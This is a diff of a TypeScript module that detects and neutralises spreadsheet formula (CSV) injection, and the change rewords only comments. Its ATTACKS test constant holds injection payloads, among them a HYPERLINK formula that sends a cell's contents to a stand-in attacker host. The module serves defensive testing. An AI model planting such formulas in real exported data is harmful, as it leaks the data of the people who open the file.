@@ -1,7 +1,7 @@
 import type { Random } from './random.js';
 import type { Cell, SampleRecord } from './records.js';
 
-/** Whether a spreadsheet might compute a cell instead of showing it (OWASP, "CSV Injection"). */
+/** Whether a spreadsheet might evaluate a cell as a formula (OWASP, "CSV Injection"). */
 export function isFormula(cell: Cell): boolean {
   if (typeof cell !== 'string') return false;
   // The compatibility form turns full-width and small signs and digits (`＝`) into plain ones.
@@ -13,7 +13,7 @@ const NUMBER = /^[+-](?:\d[\d.,' ]*|[.,]\d+)(?:e[+-]?\d{1,3})? ?%?$/i;
 /** Country code, space, optional area code in parentheses, groups joined by spaces or hyphens. */
 const TELEPHONE = /^\+\d{1,3} (?:\(\d{1,5}\) ?)?\d{1,9}(?:[ -]\d{1,9})*$/;
 
-/** The record as a spreadsheet may open it: after an apostrophe, the rest of a cell is text. */
+/** Makes a record safe for spreadsheets: an apostrophe marks the rest of a cell as text. */
 export function sanitize(record: SampleRecord): SampleRecord {
   const safe = (cell: Cell) => (isFormula(cell) ? `'${String(cell)}` : cell);
   return Object.fromEntries(Object.entries(record).map(([column, cell]) => [column, safe(cell)]));
@@ -21,7 +21,7 @@ export function sanitize(record: SampleRecord): SampleRecord {
 
 const ATTACKS =
   '=HYPERLINK("https://attacker.example/?"&A2,"Bill")|@SUM(1+1)*A1|-2+3*A1|+1+A2|\t=A1|\r=A1|＝1＋1';
-/** Harmless notes that a spreadsheet computes all the same. */
+/** Harmless notes that a spreadsheet evaluates nevertheless. */
 const ACCIDENTS = '=== FRAGILE ===|@reception|- call first|+/- 2 days|-20 °C';
 
 /** The record with a formula in one of its free texts. */
